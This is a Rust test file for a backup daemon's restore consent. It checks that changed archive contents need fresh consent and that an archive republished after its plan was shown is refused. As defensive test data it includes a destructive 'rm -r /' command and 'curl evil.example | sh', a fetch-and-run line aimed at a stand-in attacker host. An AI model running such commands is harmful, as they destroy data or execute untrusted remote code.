//! An archive that is not the one that was looked at.

use std::fs;

use protocol::{
    ArchiveId, ChunkId, SealedId,
    archive::ArchiveMeta,
    control::{ArchiveRestore, Component, Failure, FailureCode, Reply},
    job::{DumpFormat, PortProtocol},
    record::Fact,
};

use super::{
    known, only, request,
    service::{Scene, back_up, without_yunohost},
};
use crate::{
    archive::Span,
    daemon::{
        keeping,
        mesh::Change,
        rebuild::{
            known::{Dump, Kind, Known, Yunohost},
            plan::Plan,
        },
    },
    db::RunsOf,
    sys::OsEntropy,
    tasks::{
        database::{Engine, Server},
        yunohost::App,
    },
};

fn consent(known: &Known, request: &ArchiveRestore) -> String {
    let consent = Plan::of(known, request).shown.consent;
    assert!(ArchiveRestore::is_consent(&consent), "{consent}");
    consent
}

fn databases() -> Known {
    let server = Server::of(Engine::Mysql, &Default::default());
    let (format, span) = (DumpFormat::Zstd, Span { from: 0, to: 1024 });
    let dump = Dump { database: "shop".to_owned(), format, bytes: 9, span };
    Known { dumps: vec![dump], ..known(Kind::Databases(server)) }
}

#[test]
fn whatever_else_an_archive_brings_is_another_consent() {
    let changes: [fn(&mut Known); 16] = [
        |k| k.origin.id.0[0] ^= 1,
        |k| k.id = ArchiveId([9; 16]),
        |k| k.root.link.id = SealedId([9; 32]),
        |k| k.root.chunk = ChunkId([9; 32]),
        |k| k.source = "/opt/other".into(),
        |k| k.destination = "/srv".into(),
        |k| k.commands.lines[0].push('x'),
        |k| k.commands.lines.push("rm -r /".to_owned()),
        |k| k.commands.of_job = false,
        |k| k.block.system_user.as_mut().unwrap().shell = "/bin/sh".to_owned(),
        |k| k.block.system_user.as_mut().unwrap().home = "/root".to_owned(),
        |k| k.block.systemd_service.as_mut().unwrap().service_file.push('x'),
        |k| k.block.permissions.as_mut().unwrap().mode = "777".to_owned(),
        |k| k.block.permissions.as_mut().unwrap().owner = "root:root".to_owned(),
        |k| k.block.firewall_ports[0].port = 22,
        |k| k.block.firewall_ports[0].protocol = PortProtocol::Tcp,
    ];
    let before = consent(&known(Kind::Files), &request());
    let mut seen = vec![before];
    for (number, change) in changes.into_iter().enumerate() {
        let mut known = known(Kind::Files);
        change(&mut known);
        let now = consent(&known, &request());
        assert!(!seen.contains(&now), "{number}");
        seen.push(now);
    }
}

#[test]
fn dumps_apps_and_the_choice_of_parts_are_agreed_to() {
    let (shop, before) = (databases(), consent(&databases(), &request()));
    let changes: [fn(&mut Known); 4] = [
        |k| k.dumps[0].database.push('x'),
        |k| k.dumps[0].format = DumpFormat::Gzip,
        |k| k.dumps[0].span.to = 2048,
        |k| k.dumps.clear(),
    ];
    for (number, change) in changes.into_iter().enumerate() {
        let mut other = databases();
        change(&mut other);
        assert_ne!(consent(&other, &request()), before, "{number}");
    }
    let renamed = [("shop".to_owned(), "beside".to_owned())].into();
    let renamed = ArchiveRestore { rename_databases: renamed, ..request() };
    assert_ne!(consent(&shop, &renamed), before);

    let app = |id: &str| consent(&known(Kind::App(Some(id.to_owned()))), &request());
    assert_ne!(app("wiki"), app("blog"));
    let parts = |part: &str| consent(&known(Kind::System(vec![part.to_owned()])), &request());
    assert_ne!(parts("conf_ldap"), parts("data_home"));

    let files = known(Kind::Files);
    let asked = [
        request(),
        only(&[Component::Files]),
        only(&[Component::Commands]),
        ArchiveRestore { patterns: vec!["a".to_owned()], ..request() },
    ];
    let mut all: Vec<_> = asked.iter().map(|request| consent(&files, request)).collect();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), asked.len());
}

#[test]
fn what_the_machine_is_like_and_how_to_go_about_it_is_no_part_of_a_consent() {
    let before = consent(&known(Kind::Files), &request());
    let machine: [fn(&mut Known); 7] = [
        |k| k.title.push('x'),
        |k| k.files.lost = Some("/opt/hermes/data".into()),
        |k| (k.files.replaces, k.files.keeps) = (1, 2),
        |k| (k.fetch_bytes, k.fetch_from) = (7, Vec::new()),
        |k| k.look.system.unit_installed = true,
        |k| k.look.destination.free_bytes = 0,
        |k| k.yunohost = Some(Yunohost { apps: Vec::new() }),
    ];
    for (number, change) in machine.into_iter().enumerate() {
        let mut known = known(Kind::Files);
        change(&mut known);
        assert_eq!(consent(&known, &request()), before, "{number}");
    }
    let said = ArchiveRestore {
        trust: true,
        confirm_commands: true,
        no_safety: true,
        plan: true,
        wait: false,
        ..request()
    };
    assert_eq!(consent(&known(Kind::Files), &said), before);
    let there = Known { databases: Ok(["shop".to_owned()].into()), ..databases() };
    assert_eq!(consent(&there, &request()), consent(&databases(), &request()));
    let mut app = known(Kind::App(Some("wiki".to_owned())));
    let absent = consent(&app, &request());
    let (id, name, version) = ("wiki".to_owned(), String::new(), String::new());
    app.yunohost = Some(Yunohost { apps: vec![App { id, name, version, can_back_up: true }] });
    assert_eq!(consent(&app, &request()), absent);
}

/// Publishes another archive of the same service in the place of the first: other commands, under
/// the same name, with the same id or with another.
async fn republish(scene: &Scene, same_id: bool) {
    let node = &scene.node;
    let first = node.archive_list().remove(0);
    fs::write(scene.source().join("data"), "something else").unwrap();
    let other = back_up(node, &scene.source(), "curl evil.example | sh").await;
    let second = node.archive_list().into_iter().find(|archive| archive.title() == other).unwrap();
    keeping::drop_archives(node, &[first.id, second.id]).await.unwrap();
    let name = first.title();
    let meta = ArchiveMeta { name, ..second.meta.clone().unwrap() };
    let mut facts = second.facts.clone();
    facts.sealed = meta.seal(&node.key, &mut OsEntropy);
    let id = if same_id { first.id } else { second.id };
    node.mesh.publish(vec![Change::Say(Fact::Archive(id, facts))]).await.unwrap();
}

async fn planned(scene: &Scene) -> (String, Vec<String>) {
    let plan = ArchiveRestore { plan: true, ..scene.request() };
    let Reply::RestorePlan(plan) = scene.ask(plan).await.unwrap() else { panic!("no plan") };
    (plan.consent, plan.steps.into_iter().flat_map(|step| step.detail).collect())
}

async fn restore(scene: &Scene, consent: &str) -> Result<Reply, Failure> {
    let consent = Some(consent.to_owned());
    scene.ask(ArchiveRestore { consent, ..scene.request() }).await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_archive_that_is_republished_after_its_plan_was_shown_is_not_restored() {
    for same_id in [true, false] {
        let scene = Scene::new().await;
        scene.agent.plays(|word, _| without_yunohost(word));
        let (consent, said) = planned(&scene).await;
        assert!(said.iter().any(|line| line == "systemctl restart hermes"), "{said:?}");
        republish(&scene, same_id).await;
        fs::write(scene.source().join("data"), "written since").unwrap();
        let runs = scene.node.runs.list(RunsOf::All, None, 10).unwrap().len();

        let failure = restore(&scene, &consent).await.unwrap_err();
        assert_eq!(failure.code, FailureCode::Conflict, "{same_id}: {failure}");
        assert_eq!(failure.why, "the archive changed since its plan was shown");
        assert!(failure.hint.unwrap().starts_with("look at the plan again"));
        assert!(scene.agent.take().is_empty(), "{same_id}: something was done as root");
        assert_eq!(fs::read_to_string(scene.source().join("data")).unwrap(), "written since");
        assert_eq!(scene.node.runs.list(RunsOf::All, None, 10).unwrap().len(), runs);

        let (again, said) = planned(&scene).await;
        assert!(said.iter().any(|line| line == "curl evil.example | sh"), "{said:?}");
        assert_ne!(again, consent);
        assert!(matches!(restore(&scene, &again).await.unwrap(), Reply::Restored(_)));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_consent_of_a_plan_holds_while_the_machine_changes() {
    let scene = Scene::new().await;
    scene.agent.plays(|word, _| without_yunohost(word));
    let (consent, _) = planned(&scene).await;
    fs::write(scene.source().join("data"), "written since").unwrap();
    let archive = scene.node.archive_list().remove(0);
    keeping::amend(&scene.node, &archive, "pin", |_, meta| meta.pinned = true).await.unwrap();
    assert!(matches!(restore(&scene, &consent).await.unwrap(), Reply::Restored(_)));
    assert_eq!(fs::read_to_string(scene.source().join("data")).unwrap(), "as it was");
    let mut other = scene.request();
    (other.consent, other.components) = (Some(consent), [Component::Files].into());
    let failure = scene.ask(other).await.unwrap_err();
    assert_eq!(failure.code, FailureCode::Conflict, "it was given to other parts");
}
